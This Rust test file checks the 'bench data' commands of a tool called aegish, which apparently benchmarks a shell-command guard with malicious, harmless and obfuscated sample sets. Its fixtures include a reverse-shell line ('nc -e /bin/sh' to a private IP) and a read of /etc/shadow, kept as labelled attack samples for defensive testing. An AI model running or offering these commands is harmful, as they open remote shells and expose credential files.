//! `aegish bench data` as users call it.
#![cfg(feature = "bench")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use aegish_test_support::folder::Folder;
use common::aegish;
use std::fs;

/// The path of a file of the folder, as an argument.
fn path(folder: &Folder, name: &str) -> String {
    folder.0.join(name).to_string_lossy().into_owned()
}

fn write(folder: &Folder, name: &str, text: &str) -> String {
    folder.write(name, text).to_string_lossy().into_owned()
}

const ATTACKS: &str = concat!(
    "{\"command\":\"cat /etc/shadow\",\"binary\":\"cat\",\"category\":\"file-read\"}\n",
    "{\"command\":\"nc -e /bin/sh 10.0.0.1 4444\",\"binary\":\"nc\",\"category\":\"reverse-shell\"}\n",
);

#[test]
fn the_own_sets_are_in_the_binary() {
    let run = aegish(&["bench", "data", "list"], b"");
    assert_eq!(run.status, 0, "{}", run.stderr);
    for name in ["malicious", "harmless", "obfuscated"] {
        assert!(run.stdout.contains(name), "{}", run.stdout);
    }
    let run = aegish(&["bench", "data", "check"], b"");
    assert_eq!((run.status, run.stdout.lines().count()), (0, 3), "{}", run.stdout);
}

#[test]
fn a_bad_row_is_named_and_the_status_says_so() {
    let folder = Folder::new("bad");
    let good = write(&folder, "good.jsonl", ATTACKS);
    let bad = write(
        &folder,
        "bad.jsonl",
        "{\"command\":\"ls\",\"expect\":\"pass\"}\n{\"command\":\"ls\"}\n",
    );
    let run = aegish(&["bench", "data", "check", &good, &bad], b"");
    assert_eq!(run.status, 3);
    assert!(run.stdout.contains("good.jsonl: 2 samples"), "{}", run.stdout);
    assert!(run.stdout.contains("bad.jsonl, row 2 (line 2): no expectation"), "{}", run.stdout);
    let run = aegish(&["bench", "data", "check", &bad, "--expect", "pass"], b"");
    assert_eq!(run.status, 0, "{}", run.stdout);
}

#[test]
fn an_export_with_a_seed_is_the_same_every_time() {
    let folder = Folder::new("export");
    let set = write(&folder, "set.jsonl", ATTACKS);
    let export = |format: &str, seed: &str| {
        let run = aegish(
            &["bench", "data", "export", &set, "--instantiate", seed, "--format", format],
            b"",
        );
        assert_eq!(run.status, 0, "{}", run.stderr);
        run.stdout
    };
    assert_eq!(export("jsonl", "5"), export("jsonl", "5"));
    assert_ne!(export("jsonl", "5"), export("jsonl", "6"));
    // Two attacks, one of which has a twin.
    assert_eq!(export("jsonl", "5").lines().count(), 3);
    assert!(!export("json", "5").contains("\"cat /etc/shadow\""));
    assert!(export("csv", "5").starts_with("id,command,expect,category,"));
}

#[test]
fn a_checkout_becomes_a_set_that_can_be_checked() {
    let folder = Folder::new("checkout");
    fs::create_dir(folder.0.join("_gtfobins")).unwrap();
    write(
        &folder,
        "_gtfobins/cat",
        "---\nfunctions:\n  file-read:\n  - code: cat /path/to/input-file\n...\n",
    );
    write(&folder, "_gtfobins/bat", "---\nalias: cat\n...\n");
    let (from, out) = (path(&folder, ""), path(&folder, "set.json"));
    let run = aegish(
        &["bench", "data", "gtfobins", "--from", &from, "--out", &out, "--date", "2026-01-02"],
        b"",
    );
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert!(run.stdout.contains("1 commands found"), "{}", run.stdout);
    let text = fs::read_to_string(&out).unwrap();
    assert!(text.contains("\"cat /etc/shadow\"") && text.contains("2026-01-02"), "{text}");
    assert_eq!(aegish(&["bench", "data", "check", &out], b"").status, 0);
    let run = aegish(&["bench", "data", "gtfobins", "--from", "/nonexistent"], b"");
    assert_eq!((run.status, run.stdout.as_str()), (3, ""));
}

#[test]
fn a_set_whose_checks_fail_is_written_and_reported() {
    let folder = Folder::new("checks");
    fs::create_dir(folder.0.join("_gtfobins")).unwrap();
    write(&folder, "_gtfobins/x", "---\nfunctions:\n  shell:\n  - code: x --payload\n...\n");
    let (from, out) = (path(&folder, ""), path(&folder, "set.json"));
    let run = aegish(&["bench", "data", "gtfobins", "--from", &from, "--out", &out], b"");
    assert_eq!(run.status, 3);
    assert!(run.stderr.contains("`payload` gives the command away"), "{}", run.stderr);
    assert!(fs::metadata(&out).is_ok());
}

#[test]
fn generated_entries_are_never_replaced() {
    let folder = Folder::new("harmless");
    let from = write(
        &folder,
        "from.csv",
        "prompt,response\nlist,ls\nremove,rm -r x\nbecome root,sudo rm x\n",
    );
    let out = path(&folder, "set.json");
    let run = aegish(&["bench", "data", "harmless", "--from", &from, "--out", &out], b"");
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert!(run.stdout.starts_with("3 rows: 1 kept, 2 excluded, 0 repeated\n"), "{}", run.stdout);
    assert!(run.stdout.contains("      2  rm\n") && run.stdout.contains("      1  sudo\n"));
    assert!(run.stderr.contains("only 1 harmless commands"), "{}", run.stderr);
    let kept =
        "{\"commands\":[{\"command\":\"ls\",\"expect\":\"pass\",\"source\":\"llm-generated\"}]}";
    write(&folder, "set.json", kept);
    let run = aegish(&["bench", "data", "harmless", "--from", &from, "--out", &out], b"");
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("nothing was written"), "{}", run.stderr);
    assert_eq!(fs::read_to_string(&out).unwrap(), kept);
}
